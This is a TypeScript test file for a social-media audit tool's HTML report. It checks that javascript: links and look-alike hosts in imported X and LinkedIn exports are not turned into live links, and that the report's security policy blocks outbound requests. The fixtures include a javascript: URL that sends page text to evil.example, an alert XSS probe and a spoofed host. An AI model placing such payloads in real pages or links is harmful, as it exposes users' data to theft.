import { mkdtempSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runAudit, summarise } from '../audit/pipeline.js';
import { configSchema } from '../config/schema.js';
import { textDetectors } from '../detectors/index.js';
import { openStore } from '../store/db.js';
import { writeFolder } from '../../test/fixtures/samples/file-map.js';
import { csv } from '../../test/fixtures/samples/linkedin.js';
import { buildXArchive } from '../../test/fixtures/samples/x.js';
import { htmlReport } from './html.js';

/** A link that, clicked, would post every finding's text to another address. */
const EXFILTRATE = 'javascript:fetch("https://evil.example/?"+encodeURIComponent(document.body.innerText))';

/** An X archive whose liked post and a LinkedIn export whose share carry hostile links, audited for real. */
async function hostileReport(): Promise<string> {
  const root = mkdtempSync(join(tmpdir(), 'decorum-links-'));
  const x = join(root, 'x');
  writeFolder(
    x,
    buildXArchive({
      tweets: [{ id: '1900000000000000001', at: '2025-05-01T20:00:00Z', text: 'so drunk at the bar again, wasted' }],
      likes: [
        { tweetId: '1900000000000000002', text: 'got completely wasted and drunk last night', url: EXFILTRATE },
        { tweetId: '1900000000000000003', text: 'so drunk, totally wasted', url: 'https://x.com.evil.example/a' },
      ],
    }),
  );
  const linkedin = join(root, 'linkedin');
  writeFolder(linkedin, {
    'Shares.csv': csv(
      ['Date', 'ShareLink', 'ShareCommentary', 'SharedUrl', 'MediaUrl', 'Visibility'],
      [
        [
          '2025-09-02 21:47:05',
          ' JavaScript:alert(document.domain)',
          'Got wasted and drunk at the office party',
          '',
          '',
          'PUBLIC',
        ],
        [
          '2025-09-03 08:00:00',
          'https://www.linkedin.com/feed/update/urn:li:share:7',
          'so drunk and wasted again',
          '',
          '',
          'PUBLIC',
        ],
      ],
    ),
  });
  const db = openStore(':memory:');
  const config = configSchema.parse({}).audit;
  const now = new Date('2026-01-01T00:00:00Z');
  const result = await runAudit({ inputs: [x, linkedin], db, config, detectors: textDetectors(config), now });
  db.close();
  expect(result.findings.some((finding) => finding.url === EXFILTRATE)).toBe(true);
  return htmlReport(result, summarise(result), now);
}

/** Every link target but the page's own anchors (the "start here" list jumps to its cards). */
const hrefs = (html: string): string[] =>
  [...html.matchAll(/href="([^"]*)"/g)].map((match) => match[1] as string).filter((href) => !/^#item-\d+$/.test(href));

describe('HTML report links from hostile exports', () => {
  it('links only to the platform itself; javascript: and look-alike hosts stay text', async () => {
    const html = await hostileReport();
    const links = hrefs(html);
    expect(links.length).toBeGreaterThan(0);
    for (const link of links) expect(link).toMatch(/^https:\/\/(x\.com|www\.linkedin\.com)\//);
    expect(links).toContain('https://www.linkedin.com/feed/update/urn:li:share:7');
    expect(html.toLowerCase()).not.toContain('javascript:');
    expect(html).not.toContain('evil.example');
  });

  it('runs only its own script and style (by hash) and can send nothing out', async () => {
    const html = await hostileReport();
    const policy = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';
    const directives = new Map(
      policy.split(';').map((part) => {
        const [name, ...values] = part.trim().split(/\s+/);
        return [name, values.join(' ')] as const;
      }),
    );
    expect(directives.get('default-src')).toBe("'none'");
    expect(directives.get('img-src')).toBe('data:');
    expect(directives.get('form-action')).toBe("'none'");
    expect(directives.get('base-uri')).toBe("'none'");
    expect(directives.get('connect-src')).toBe("'none'");
    expect(policy).not.toContain('unsafe-inline');
    const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
    const scripts = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((match) => match[1] as string);
    expect(scripts).toHaveLength(1);
    expect(directives.get('script-src')).toBe(sha(scripts[0] as string));
    const styles = [...html.matchAll(/<style>([\s\S]*?)<\/style>/g)].map((match) => match[1] as string);
    expect(styles).toHaveLength(1);
    expect(directives.get('style-src')).toBe(sha(styles[0] as string));
  });
});
